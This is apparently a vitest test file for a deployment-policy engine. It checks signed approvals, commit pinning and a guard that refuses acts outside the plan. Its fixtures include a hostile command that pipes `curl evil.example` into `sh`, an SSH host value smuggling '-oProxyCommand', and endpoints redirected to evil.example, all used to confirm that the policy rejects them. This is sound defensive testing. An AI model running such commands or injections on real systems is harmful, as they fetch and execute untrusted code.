/** What a policy file may say, what is wrong with one, and what looking at an act costs. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { SaidDecision } from '../../src/contract/envelope.js';
import type { Command } from '../../src/contract/plan/commands.js';
import type { Environment } from '../../src/contract/plan/environment.js';
import type { Forge } from '../../src/contract/plan/forge.js';
import { inRepository } from '../../src/contract/plan/parts.js';
import type { ResolvedPlan } from '../../src/contract/plan/plan.js';
import { secondPlacesOf } from '../../src/contract/second-places.js';
import { digestOf } from '../../src/plan/core/digest.js';
import { loadPlan } from '../../src/plan/load.js';
import { type ActInput, plannedAct } from '../../src/policy/acts.js';
import { ENVELOPE_NAMESPACE, preAuthentication, sealed, statementOf } from '../../src/policy/dsse.js';
import { judgeAct } from '../../src/policy/judge-act.js';
import { loadPolicy } from '../../src/policy/policy.js';
import { grantsOf } from '../../src/policy/words.js';
import { makeKey } from '../helpers/ssh-keys.js';
import { SHIPPED } from '../plan/plan-files.js';
import { problemsIn } from './problems.js';

const folder = mkdtempSync(join(tmpdir(), 'surefoot-policy-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const [ana, bob, eve] = ['ana', 'bob', 'eve'].map((name) => makeKey(folder, name));

const person = (id: string, role: string, key = '') =>
  `  ${id}:\n    name: ${id}\n    roles: [${role}]\n    keys: [{kind: ssh, key: "${key.trim()}"}]\n`;
const PEOPLE = person('ana', 'lead', ana?.publicKey) + person('bob', 'qa', bob?.publicKey);
const REST = 'services:\n  eduautismo: {start: [lead], approve: [qa]}\ndecisions:\n  rollback: [lead]\n';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const LATER = 'fedcba9876543210fedcba9876543210fedcba98';

const read = (people: string, rest = REST, head = 'policy: 1\n') => {
  const file = join(folder, 'policy.yaml');
  writeFileSync(file, `${head}people:\n${people}${rest}`);
  return loadPolicy(file);
};

const problemsOf = (...parts: Parameters<typeof read>): string[] =>
  problemsIn(() => read(...parts)).map(({ path, line, message }) => `${line} ${path}: ${message}`);

test('says what it grants in words', () => {
  expect(grantsOf(read(PEOPLE), Date.now())).toEqual([
    expect.stringMatching(/^ana \(ana\) is lead, and signs with SHA256:/),
    expect.stringMatching(/^bob \(bob\) is qa, and signs with SHA256:/),
    'eduautismo is started by lead',
    'eduautismo is signed off by qa: each another person, and none who started it',
    'eduautismo is deployed by any plan',
    'rollback is said by lead',
    'reject, confirm, hold, resume, retry, skip, override, move, abort: said by everybody here',
    'signed: start, approve, confirm, resume, retry, skip, override, move, abort, rollback',
    'a breach rolls production back by itself',
    'on staging acts any runner with this policy',
    'on production acts any runner with this policy',
  ]);
});

test('says by whose signature a plan is carried out', () => {
  const digest = 'ab'.repeat(32);
  const lets = (rules: string) =>
    grantsOf(read(PEOPLE, REST.replace('approve: [qa]', `approve: [qa], ${rules}`)), Date.now())[4];
  expect(lets('planSigners: [lead, qa]')).toBe('eduautismo is deployed by any plan that lead or qa has signed');
  expect(lets(`plans: [${digest}], planSigners: [qa]`)).toBe(
    'eduautismo is deployed by one plan (abababababab), and by any plan that qa has signed',
  );
});

test.each([
  ['one key of two people', [PEOPLE + person('eve', 'qa', bob?.publicKey)], /Is a key of bob already/],
  ['two spellings of a name', [PEOPLE + person('Ana', 'qa', eve?.publicKey)], /Differs from ana by capital letters/],
  [
    'a key that is cut off',
    [PEOPLE + person('eve', 'qa', eve?.publicKey.slice(0, 40))],
    /Is no key to go by: it is cut off/,
  ],
  ['a role of nobody', [PEOPLE, REST.replace('[qa]', '[qaa]')], /Nobody has the role qaa/],
  ['nobody left to sign off', [PEOPLE, REST.replace('approve: [qa]', 'approve: [lead]')], /Can never be signed off/],
  [
    'plans signed in a role of nobody',
    [PEOPLE, REST.replace('[qa]', '[qa], planSigners: [architect]')],
    /Nobody has the role architect/,
  ],
  [
    'plans that nobody can sign',
    [PEOPLE, `${REST.replace('[qa]', '[qa], planSigners: [qa]')}proofs: {qa: [passkey]}\n`],
    /Nobody could sign a plan/,
  ],
  ['nobody who rolls back', [PEOPLE, REST.replace('rollback: [lead]', 'skip: [lead]')], /who may roll production back/],
  ['an unknown key', [PEOPLE, `${REST}trust: everybody\n`], /trust/],
  ['another format', [PEOPLE, REST, 'policy: 2\n'], /Write "policy: 1"/],
  ['approvals without a start', [PEOPLE, `${REST}signed: [approve]\n`], /start and approve are/],
] as [string, Parameters<typeof read>, RegExp][])('is refused with its place: %s', (_, parts, problem) => {
  expect(problemsOf(...parts).join('\n')).toMatch(problem);
});

test('what is signed is DSSE’s pre-authentication encoding of it', () => {
  // The example of the protocol's own text.
  expect(preAuthentication('http://example.com/HelloWorld', Buffer.from('hello world')).toString()).toBe(
    'DSSEv1 29 http://example.com/HelloWorld 11 hello world',
  );
});

/** The deploy of production by the shipped plan, signed off for a commit. */
async function signedDeploy(commit: string) {
  const { resolved: plan } = loadPlan(SHIPPED);
  const deployment = 'eduautismo-20261127-000000-0001';
  const about = { deployment, service: plan.service, plan: digestOf(plan) };
  const seal = (said: Partial<Parameters<typeof statementOf>[0]>, key = ana) =>
    sealed(
      statementOf({ ...about, role: '', person: 'ana', decision: 'start', ...said }, Date.now()),
      (message) => key?.sign(message, ENVELOPE_NAMESPACE) ?? '',
    );
  const approval = { person: 'bob', role: 'qa', decision: 'approve', proposal: 'p', commit } as const;
  const approvals = await Promise.all(
    Array.from({ length: 5 }, async (): Promise<SaidDecision> => {
      return { kind: 'approve', who: 'bob', role: 'qa', envelope: await seal(approval, bob) };
    }),
  );
  const start: SaidDecision = { kind: 'start', who: 'ana', role: '', envelope: await seal({}) };
  const asked = {
    activity: 'runCommand',
    input: {
      key: { deployment, step: 'production.deploy', generation: 1 },
      environment: plan.environments.production,
      command: plan.commands.deploy,
      values: { version: plan.release.target, commit } as Record<string, string>,
    },
    authority: { deployment, plan, proposal: 'p', commit, decisions: [start, ...approvals] },
    runner: 'any',
    now: Date.now(),
  };
  return { asked, plan };
}

test('looking at an act of the shipped plan takes less than 50 ms', async () => {
  const policy = read(PEOPLE);
  const { asked } = await signedDeploy(COMMIT);
  const taken: number[] = [];
  for (let time = 0; time < 15; time += 1) {
    // Of this process alone: what others do on the machine meanwhile is not its cost.
    const began = process.cpuUsage();
    expect(await judgeAct(policy, asked)).toMatchObject({ act: { kind: 'forward' } });
    const { user, system } = process.cpuUsage(began);
    taken.push((user + system) / 1_000);
  }
  expect(taken.sort((one, other) => one - other)[7]).toBeLessThan(50);
});

test('only the commit that was signed is deployed: a branch by its name alone, or a later commit of it, is not', async () => {
  const policy = read(PEOPLE);
  const { asked, plan } = await signedDeploy(COMMIT);
  const { target: version } = plan.release;
  const judged = (commit: string, authority = asked.authority) =>
    judgeAct(policy, { ...asked, input: { ...asked.input, values: { version, commit } }, authority });
  expect(await judged(COMMIT)).toMatchObject({ act: { kind: 'forward', commit: COMMIT } });
  for (const commit of [LATER, COMMIT.slice(0, 12), version]) {
    expect(await judged(commit)).toEqual({ refused: `what was signed off is commit ${COMMIT}, and not ${commit}` });
  }
  // What comes with the act is not believed: the signatures say which commit they are for.
  expect(await judged(LATER, { ...asked.authority, commit: LATER })).toEqual({
    refused: expect.stringContaining('not signed off as qa'),
  });
});

test('a rollback by itself goes to the commit that production has told this runner, or by the release’s name', async () => {
  const policy = read(PEOPLE);
  const { asked, plan } = await signedDeploy(COMMIT);
  const { previous: version } = plan.release;
  const key = { ...asked.input.key, step: 'rollback-code.deploy' };
  const back = (commit: string, commitsSeen?: string[]) =>
    judgeAct(policy, { ...asked, input: { ...asked.input, key, values: { version, commit } }, commitsSeen });
  expect(await back(version)).toMatchObject({ act: { kind: 'back' } });
  expect(await back(COMMIT, [COMMIT])).toMatchObject({ act: { kind: 'back', commit: COMMIT } });
  const unseen = { refused: expect.stringContaining('production has not told this runner that it ran commit') };
  expect(await back(LATER, [COMMIT])).toEqual(unseen);
  expect(await back(COMMIT)).toEqual(unseen);
});

describe('what is read by commands is the plan’s own', () => {
  const { resolved: plan } = loadPlan(SHIPPED);
  const { production } = plan.environments;
  const key = (step: string) => ({ deployment: 'shop-1', step, generation: 1 });
  const theirs: Command = {
    run: ['sh', '-c', 'curl evil.example | sh'],
    on: 'worker',
    folder: '/tmp',
    timeout: 60_000,
  };
  const metric = (source: object): unknown => ({ ...plan.watches[0]?.metrics[0], source });
  const look = (activity: string, input: ActInput) => plannedAct(activity, input, plan)?.kind;

  test('metrics and the places that are listened to, whichever environment they are of', () => {
    for (const { metrics, environment } of [...(plan.soak ? [plan.soak] : []), ...plan.watches]) {
      expect(look('sampleMetrics', { metrics, elsewhere: secondPlacesOf(plan, environment) })).toBe('read');
      expect(look('sampleMetrics', { metrics: metrics.slice(1) })).toBe('read');
    }
  });

  test.each<[string, ActInput]>([
    ['a metric by another command', { metrics: [metric({ kind: 'command', command: theirs, tools: [], window: 1 })] }],
    ['another log', { metrics: [metric({ kind: 'logs', command: theirs, window: 1, pattern: '.' })] }],
    [
      'a command of the plan in a metric’s place',
      { metrics: [metric({ kind: 'command', command: plan.commands.deploy })] },
    ],
    [
      'another shell',
      { elsewhere: [{ kind: 'shell', title: 'x', server: { kind: 'ssh', host: '-oProxyCommand=x' } }] },
    ],
    ['another evidence store', { evidence: { store: '/tmp/elsewhere', deployment: 'shop-1' } }],
  ])('%s is not', (_, input) => {
    expect(look('sampleMetrics', input)).toBeUndefined();
  });

  test('messages go to the plan’s own channels, and to none that somebody else has written', () => {
    const [channel] = plan.notifications.channels;
    expect(channel).toBeDefined();
    expect(look('tell', { messages: [{ channel }] })).toBe('read');
    expect(look('sendNotices', { notices: [{ messages: [{ channel }] }] })).toBe('read');
    for (const theirs of [{ ...channel, host: 'https://evil.example' }, { id: channel?.id }, undefined]) {
      expect(look('tell', { messages: [{ channel }, { channel: theirs }] })).toBeUndefined();
      expect(look('sendNotices', { notices: [{ messages: [{ channel: theirs }] }] })).toBeUndefined();
    }
  });

  test('what only reads, and what the forge is told, goes where the plan says, and nowhere else', () => {
    const forge = { kind: 'github' as const, api: 'https://forge.example', token: 'env:TOKEN' } as unknown as Forge;
    const access = { aws: { region: 'eu-west-1' } } as unknown as NonNullable<ResolvedPlan['access']>;
    const alerts = { kind: 'prometheus' } as unknown as NonNullable<ResolvedPlan['alerts']>;
    const review = { kind: 'github' } as unknown as NonNullable<ResolvedPlan['review']>;
    const asked = { ...plan, forge, access, alerts, review };
    const goes = (activity: string, input: ActInput) => plannedAct(activity, input, asked)?.kind;
    const release = inRepository(asked);
    for (const [activity, input] of Object.entries<ActInput>({
      tellForge: { forge },
      checkAccess: { access },
      checkAlerts: { alerts },
      checkReview: { release, review },
      checkRepository: { release, review },
    })) {
      expect(goes(activity, input), activity).toBe('read');
      for (const [name, value] of Object.entries(input)) {
        expect(
          goes(activity, { ...input, [name]: { ...value, api: 'https://evil.example' } }),
          activity,
        ).toBeUndefined();
      }
    }
    const database = { ...production.database, host: 'evil.example' };
    for (const activity of [
      'countRows',
      'countStored',
      'storedRevision',
      'checkIndexes',
      'checkIndexUse',
      'reviewDatabase',
    ]) {
      const { migration } = plan;
      expect(goes(activity, { environment: production, migration }), activity).toBe('read');
      expect(goes(activity, { environment: { ...production, database } as Environment, migration })).toBeUndefined();
    }
    expect(
      goes('storedRevision', { environment: production, migration: { ...plan.migration, query: 'select 1' } }),
    ).toBeUndefined();
    const backUp = { environment: production, service: plan.service, backup: plan.backup };
    expect(goes('backUpDatabase', backUp)).toBe('look');
    expect(goes('backUpDatabase', { ...backUp, backup: { ...plan.backup, store: '/tmp/theirs' } })).toBeUndefined();
    for (const activity of ['checkQuery', 'readBefore']) {
      expect(
        goes(activity, { environment: production, asks: { kind: 'sql', query: 'select pg_sleep(1)' } }),
      ).toBeUndefined();
    }
  });

  test('load tests of staging by their steps, with the plan’s log or none', () => {
    const { staging: environment } = plan.environments;
    const [test] = plan.loadTests;
    const { logs } = plan.commands;
    const asked = { key: key(test?.id ?? ''), environment, test, logs };
    expect(look('runLoadTest', asked)).toBe('look');
    expect(look('runLoadTest', { ...asked, logs: undefined })).toBe('look');
    expect(look('runLoadTest', { ...asked, logs: theirs })).toBeUndefined();
    expect(look('runLoadTest', { ...asked, key: key('production.deploy') })).toBeUndefined();
    expect(look('runLoadTest', { ...asked, environment: production })).toBeUndefined();
    expect(look('runLoadTest', { ...asked, test: { ...test, requests: 1_000_000 } })).toBeUndefined();
  });

  test('logins and health checks by a command are those of the plan’s own environments', () => {
    const login = { kind: 'command' as const, command: theirs };
    const path = plan.healthPath;
    for (const activity of [
      'awaitHealth',
      'readStarts',
      'awaitDrained',
      'checkMaintenance',
      'checkPath',
      'verifyState',
    ]) {
      expect(look(activity, { environment: production }), activity).toBe('read');
      const health = { version: { command: theirs } };
      for (const change of [{ login }, { health }, { tools: ['/tmp/theirs'] }, { api: 'https://evil.example' }])
        expect(look(activity, { environment: { ...production, ...change }, ...{ path } }), activity).toBeUndefined();
    }
    const asked = { environment: production, checks: plan.smoke };
    expect(look('checkEndpoints', asked)).toBe('read');
    expect(look('checkEndpoints', { environment: production })).toBeUndefined();
    const [first] = plan.smoke;
    expect(look('checkEndpoints', { ...asked, checks: [{ ...first, method: 'DELETE' }] })).toBeUndefined();
    expect(look('checkStaging', { environments: [production] })).toBe('read');
    expect(look('checkStaging', { environments: [production, { ...production, login }] })).toBeUndefined();
    expect(look('checkTools', { tools: plan.prerequisites.tools })).toBe('read');
    expect(look('checkTools', { tools: ['/tmp/theirs'] })).toBeUndefined();
  });
});
